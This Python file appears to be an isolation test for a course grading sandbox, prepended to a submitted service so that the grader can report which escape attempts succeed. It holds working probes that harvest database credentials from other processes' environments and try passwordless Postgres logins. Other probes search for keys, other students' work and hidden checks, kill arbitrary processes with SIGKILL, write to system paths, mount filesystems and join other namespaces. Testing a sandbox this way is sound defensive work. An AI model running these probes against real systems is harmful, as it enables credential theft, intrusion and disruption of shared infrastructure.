"""What a submitted service tries while it is graded. Put before orders/app/main.py; ends with what it got.

Each attack is a function that returns something true if it succeeded. The names of those that did are the message
of the error that ends the service, which the judge tells as the reason why it did not start.
"""

import contextlib
import ctypes
import os
import signal
import socket
import sys
import time
from pathlib import Path

SETTLE_S = 0  # whatever is still starting shall be up
ONLY = ()  # names of attacks; empty: all
HOST_PORT = 0  # a server on the machine itself, outside the job
KEYS = "/nowhere"  # the class's folder of keys
SUBMITTED = "/nowhere"  # another student's submission
COURSE = "/nowhere"  # the course, with its hidden checks


def _files(suffixes, limit=200_000):
    """Files anywhere that we may see, by the end of their name."""
    seen = 0
    for top in ("/", "/proc/1/root", "/proc/self/root/.."):
        for parent, folders, names in os.walk(top):
            folders[:] = [name for name in folders if Path(parent, name).as_posix() not in ("/proc", "/usr", "/sys")]
            for name in names + folders:
                seen += 1
                if name.endswith(suffixes):
                    yield Path(parent, name)
            if seen > limit:
                return


def _environments():
    for folder in Path("/proc").iterdir():
        if folder.name.isdigit() and int(folder.name) != os.getpid():
            try:
                yield (folder / "environ").read_bytes()
            except OSError:
                continue


def _ports():
    """All ports on which somebody in our network listens."""
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        words = line.split()
        if words[3] == "0A":
            yield int(words[1].split(":")[1], 16)


def _says(port, request):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.3) as peer:
            peer.sendall(request)
            return peer.recv(65536)
    except OSError:
        return b""


def _startup(user, database):
    body = b"\0\3\0\0" + b"user\0" + user.encode() + b"\0database\0" + database.encode() + b"\0\0"
    return (len(body) + 4).to_bytes(4, "big") + body


def another_services_dsn():
    return any(b"payments:" in env or b"@postgres" in env for env in _environments())


def a_dsn_of_another_in_my_own_environment():
    return any("payments:" in value or "superuser" in value for value in os.environ.values())


def a_database_without_a_password():
    """Asked for trust: an answer of 'R' and eight zero bytes would be "you are in"."""
    roles = [("payments", "payments"), ("postgres", "postgres"), ("postgres", "payments"), ("orders", "payments")]
    return [
        (port, role)
        for port in _ports()
        for role in roles
        if _says(port, _startup(*role))[:9] == b"R\0\0\0\x08\0\0\0\0"
    ]


def the_database_folder():
    return list(_files(("PG_VERSION", "pg_hba.conf", "postmaster.pid")))


def the_providers_books():
    return [path for path in _files((".jsonl", "books")) if os.access(path, os.R_OK)]


def the_control_socket():
    found = [path for path in _files((".sock", "control", "socket")) if path.is_socket()]
    named = [line.split()[7] for line in Path("/proc/net/unix").read_text().splitlines()[1:] if len(line.split()) > 7]
    return found or [name for name in named if _connects(name)]


def _connects(name):
    address = "\0" + name[1:] if name.startswith("@") else name
    try:
        with socket.socket(socket.AF_UNIX) as peer:
            peer.settimeout(1)
            peer.connect(address)
            return True
    except OSError:
        return False


def the_controls_over_tcp():
    ask = b"GET /books HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    return [port for port in _ports() if b" 200 " in _says(port, ask)[:20]]


def another_process():
    """Any process but ourselves and what we were started by."""
    family = {os.getpid(), os.getppid(), 1}
    return [name for name in os.listdir("/proc") if name.isdigit() and int(name) not in family]


def the_judge_by_a_signal():
    for pid in range(2, 400):
        if pid not in (os.getpid(), os.getppid()):
            try:
                os.kill(pid, signal.SIGKILL)
                return pid
            except OSError:
                continue
    return None


def the_machines_own_loopback():
    return _says(HOST_PORT, b"hello")


def the_world():
    for address in (("1.1.1.1", 53), ("192.168.0.1", 80), ("10.0.0.1", 80)):
        try:
            socket.create_connection(address, timeout=1).close()
            return address
        except OSError:
            continue
    return None


def the_keys_the_checks_and_the_others():
    return [
        place for place in (KEYS, SUBMITTED, COURSE + "/solutions", COURSE + "/breakwater") if os.path.exists(place)
    ]


def the_shop_on_disk():
    # Where the course lies under /tmp this writes into the service's own /tmp: the test looks whether it came through.
    with contextlib.suppress(OSError):
        (Path(COURSE) / "written-by-eve").open("a").close()
    for place in ("/shop/orders/app/main.py", __file__, sys.prefix, "/usr/bin"):
        try:
            target = Path(place)
            (target / "x" if target.is_dir() else target).open("a").close()
            return place
        except OSError:
            continue
    return None


def a_mount():
    libc = ctypes.CDLL(None, use_errno=True)
    return libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0


def another_namespace():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in ("1", str(os.getppid())):
        for kind in ("mnt", "net", "pid", "user"):
            try:
                held = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            except OSError:
                continue
            own = os.stat(f"/proc/self/ns/{kind}").st_ino
            if os.fstat(held).st_ino != own and libc.setns(held, 0) == 0:
                return kind
    return None


ATTACKS = [
    each
    for name, each in list(globals().items())
    if not name.startswith("_") and getattr(each, "__module__", "") == __name__ and (not ONLY or name in ONLY)
]

time.sleep(SETTLE_S)
_got, _failed = [], []
for _attack in ATTACKS:
    try:
        if _found := _attack():
            _got.append(f"{_attack.__name__}={str(_found)[:60]}")
    except Exception as _error:
        _failed.append(f"{_attack.__name__}:{type(_error).__name__}")
raise RuntimeError(f"{len(ATTACKS)} attacks, got {_got}, broke {_failed}, {len(set(_ports()))} ports")
